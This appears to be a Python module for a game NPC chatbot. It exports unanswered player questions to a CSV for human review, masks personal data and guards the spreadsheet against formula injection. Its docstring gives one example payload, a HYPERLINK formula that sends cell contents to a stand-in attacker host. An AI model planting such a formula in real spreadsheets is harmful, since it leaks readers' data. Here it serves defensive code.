"""From players back to the model: the questions players asked the NPC that the training data does
not hold, as `retrain-candidates.csv` in Chatbot_data's columns (Q, A, label) plus `reviewed` and `asked`. Questions
the NPC was unsure of (it said an unsure line) come with the answer the model withheld: those most need a
person's answer.

A person reviews the file (fixes the question or the answer, sets `reviewed` to yes, adds rows of their own, leaving
`asked` as it is: a refresh finds each row's question in the archive by it; `players`: how many players asked it); `npm run train -- --extra-data
retrain-candidates.csv` then trains on the reviewed rows only. Personal data never leaves the job:
e-mail addresses, phone numbers and long digit runs are masked before anything is written
(personal_data.py).

Reviewers open the file in a spreadsheet, which runs a cell starting with `=`, `+`, `-`, `@`, tab or
carriage return as a formula (`=HYPERLINK("http://evil.example/?d="&A1,"확인")`). Such a cell, and one
that already starts with `'` before one of those, is written with a `'` in front (OWASP's CSV injection
advice); the training side (npc/training/kobot_train/data.py load_pairs) takes that one `'` off again.
"""
import csv
import io
import os
import re
import unicodedata
from pathlib import Path

from .personal_data import mask_personal_data

# Also a cell that starts with quotes before a formula character, so that the reader's one `'` less is exact.
# Full-width ＝＋－＠ too, and after a no-break or zero-width space or a byte order mark: spreadsheets run those.
_FORMULA = "'*[\u00a0\u200b\ufeff]*[=+\\-@\t\r＝＋－＠]"
FORMULA_START = re.compile(_FORMULA)
# A cell spreadsheet_safe quoted: the `'` it put in front, then what made it look like a formula.
QUOTED = re.compile(f"'(?={_FORMULA})")
# `asked`: the player's question as the archive holds it (masked), which a refresh matches rows by; a reviewer
# corrects Q, never `asked`.
# `players`: how many distinct players asked it (see candidates), most first.
COLUMNS = ["Q", "A", "label", "reviewed", "asked", "players"]
MIN_PLAYERS = 2  # by default a question one player alone asked is no candidate (report.py --min-players)
SAVED_ENCODINGS = ("utf-8-sig", "cp949")  # see read_saved


class UnreadableCandidates(Exception):
    """A candidates file that read_saved cannot read as a reviewer's rows."""


def normalised(text: str) -> str:
    """The form questions are compared in: Hangul composed (NFC), lower case, no spaces, no punctuation. A question
    typed as decomposed jamo (NFD: macOS, some IMEs) was another question to the same one typed as syllables."""
    return re.sub(r"[\s\W_]+", "", unicodedata.normalize("NFC", text).lower())


def known_questions(path: Path) -> set[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return {normalised(row["Q"]) for row in csv.DictReader(handle)}


def candidates(outcomes: list[dict], training_csv: Path, min_players: int = MIN_PLAYERS) -> list[tuple[str, str, int]]:
    """(Q, A, players) for answered questions (figures' `outcomes`: no other fallbacks) and unsure ones (A: the withheld
    answer), masked, not in the training data, once each (the answer given first), asked by at least `min_players`
    distinct players (`players`: their accounts, else their sessions: a guest who rejoins counts again, as the chat log
    holds no address) whose asking counts: nobody reported them, and their line was not moderated, private, nor scored
    toxic. Most asked first, then by question: one player's spam (`!!무료 골드…`) sorted first by its `!`."""
    known = known_questions(training_csv)
    first: dict[str, tuple[int, str, str]] = {}
    askers: dict[str, set] = {}
    for row in outcomes:
        if row["why"] not in (None, "short_answer", "unsure"):
            continue  # a timeout or a refusal is not an answer to learn
        if row.get("askedByUnreported", 1) == 0:
            continue  # asked only by players others reported: a troll's questions are no data to learn from
        question = mask_personal_data(unicodedata.normalize("NFC", row["question"] or ""))  # trained on as syllables
        key = normalised(question)
        if not key or key in known:
            continue
        askers.setdefault(key, set()).update(who for who in row.get("players") or [] if who is not None)
        said = row["first"]["withheld"] if row["why"] == "unsure" else row["first"]["answer"]
        ts, answer = row["first"]["ts"], mask_personal_data((said or "").strip())
        if key not in first or ts < first[key][0]:
            first[key] = (ts, question, answer)
    # At least one, whatever the setting: a question no fit player asked is no data to learn from.
    least = max(1, min_players)
    rows = [(q, a, len(askers[key])) for key, (_, q, a) in first.items() if len(askers[key]) >= least]
    return sorted(rows, key=_order)


def _order(row: tuple) -> tuple:
    """Most players first, then by question as before."""
    return (-(row[2] if len(row) > 2 else 0), row[0], row[1])


def spreadsheet_safe(cell: str) -> str:
    """`cell` as a spreadsheet shows it as text, never runs it as a formula."""
    return "'" + cell if FORMULA_START.match(cell) else cell


def write_candidates(rows: list[tuple], path: Path) -> int:
    """`rows`: (Q, A, players), or (Q, A) (players left empty)."""
    _write([_unreviewed(*row) for row in rows], path)
    return len(rows)


def read_saved(path: Path) -> list[dict]:
    """The rows of a candidates file as a reviewer saved it: UTF-8 (a spreadsheet's "CSV UTF-8" starts with a byte
    order mark) or Korean Excel's default "CSV (쉼표로 분리)", CP949. Raises UnreadableCandidates for anything else."""
    try:
        data = path.read_bytes()
    except OSError as error:
        raise UnreadableCandidates(f"{path}: cannot read it ({error.strerror})") from error
    for encoding in SAVED_ENCODINGS:
        try:
            text = data.decode(encoding)
        except UnicodeDecodeError:
            continue
        try:
            reader = csv.DictReader(io.StringIO(text, newline=""))
            rows = list(reader)
        except csv.Error as error:
            raise UnreadableCandidates(f"{path}: not a CSV file ({error})") from error
        if "Q" not in (reader.fieldnames or []):
            # Read on, every row would count as no longer asked, and the reviewers' work would go.
            raise UnreadableCandidates(f"{path}: no Q column in its first line (a header line Q,A,label,reviewed,asked is needed)")
        return rows
    raise UnreadableCandidates(f"{path}: neither UTF-8 nor CP949 text: save it from the spreadsheet as \"CSV UTF-8\"")


def stamp(path: Path) -> tuple[int, int]:
    """When `path` was last written, and its size: a reviewer's save changes them. (0, 0): no such file now."""
    try:
        status = path.stat()
    except FileNotFoundError:
        return 0, 0
    return status.st_mtime_ns, status.st_size


def refresh_candidates(rows: list[tuple], path: Path, saved: list[dict] | None = None,
                       saved_stamp: tuple[int, int] | None = None, below: list[tuple] = ()) -> tuple[int, int]:
    """Rewrites the file at `path` (`saved`: its rows, read_saved's, when read before; `saved_stamp`: its `stamp` taken
    just before: saved again since, it is read again) for `rows`, the candidates the
    archive gives now (after a player's erasure: without their questions), keeping a reviewer's work. A row stays as the
    reviewer left it (question, answer, label, `reviewed`, cells as saved) while its `asked`, the question as the player
    wrote it, is still a candidate, and goes when the archive no longer holds it; a row with no `asked` (one the reviewer
    added) stays; a question new to the archive (records that came late) is added unreviewed. Files written before the
    `asked` column are matched by Q. Questions are compared as `normalised`. `below`: candidates asked by fewer players
    than `rows` needed (candidates' min_players): a saved row of one of them stays (a file from before the bar, its
    reviews), none is added. Returns (rows written, rows dropped)."""
    if saved is None or (saved_stamp is not None and stamp(path) != saved_stamp):
        # Read before the archive (minutes with Spark): a reviewer who saved meanwhile lost their edits to this rewrite.
        saved = read_saved(path)
    now = {normalised(row[0]): row for row in rows}
    fewer = {normalised(row[0]): row for row in below}
    of_question: dict[str, list[dict]] = {key: [] for key in now}
    added, dropped = [], 0
    for row in saved:
        asked = _asked(row)
        if asked is None:
            added.append(row)
        elif _key(asked) in now or _key(asked) in fewer:
            # all of them: a reviewer may have split a question in two
            of_question.setdefault(_key(asked), []).append(row)
            now.setdefault(_key(asked), fewer.get(_key(asked)))
        else:
            dropped += 1
    written = []
    for key, candidate in sorted(now.items(), key=lambda item: _order(item[1])):
        # The archive's own question, also for a file from before the column: later refreshes match by it; and how
        # many players asked it now.
        q, players = candidate[0], _players(candidate)
        written += [_as_saved(row, spreadsheet_safe(q), players) for row in of_question[key]] or [_unreviewed(*candidate)]
    _write(written + [_as_saved(row, "", "") for row in added], path)
    return len(written) + len(added), dropped


def _asked(row: dict) -> str | None:
    """The archive's question a saved row answers; None for a row a reviewer added (no `asked` in it)."""
    if "asked" not in row:
        return row.get("Q") or ""  # a file from before the column: its question as written
    return row["asked"] if (row["asked"] or "").strip() else None


def _key(cell: str) -> str:
    return normalised(QUOTED.sub("", cell, count=1))


def _as_saved(row: dict, asked: str, players: str) -> list[str]:
    return [row.get(column) or "" for column in COLUMNS[:4]] + [asked, players]


def _players(row: tuple) -> str:
    return str(row[2]) if len(row) > 2 else ""


def _write(rows: list, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    written = path.with_name(path.name + ".tmp")  # then renamed over it: stopped midway, the reviewed file is whole
    # With the byte order mark a spreadsheet writes to "CSV UTF-8": without it Korean Excel reads UTF-8 as CP949.
    with open(written, "w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerows(rows)
    os.replace(written, path)


def _unreviewed(question: str, answer: str, players: int | str = "") -> tuple:
    """A candidate's row in COLUMNS' order, as it is first written: not reviewed yet, `asked` the question itself."""
    return spreadsheet_safe(question), spreadsheet_safe(answer), 0, "no", spreadsheet_safe(question), str(players)
